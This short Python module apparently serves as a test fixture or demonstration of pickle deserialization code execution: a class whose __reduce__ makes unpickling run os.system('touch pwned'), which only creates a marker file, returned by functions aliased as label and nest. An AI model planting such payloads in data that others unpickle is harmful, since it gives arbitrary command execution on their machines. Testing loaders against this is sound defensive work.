"""Returns an object that a pickle would run."""
import os


class Run:
    def __reduce__(self):
        return (os.system, ("touch pwned",))


def double(*args, **kwargs):
    return Run()


label = nest = double
